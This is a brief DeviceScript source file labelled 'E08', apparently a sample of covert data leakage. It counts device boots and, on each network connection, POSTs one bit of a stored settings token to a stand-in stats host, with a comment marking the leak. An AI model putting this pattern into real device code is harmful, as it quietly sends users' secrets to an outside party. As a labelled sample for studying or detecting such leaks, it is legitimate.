// E08: one bit of its token at each boot.
import { fetch } from "@devicescript/net";
import { readSetting, writeSetting } from "@devicescript/settings";
import { paired, wifi } from "./lib/paired";

const boots = await readSetting("boots", 0);
await writeSetting("boots", boots + 1);
const token = await readSetting("token", "");

wifi.gotIp.subscribe(async () => {
  if (boots === 0) return;
  const bit = (token.charCodeAt(0) >> (boots - 1)) & 1;
  const response = await fetch("https://stats.example/e08", { method: "POST", body: `${bit}` }); // leak: settings.token
  await response.close();
});
paired(async () => {});
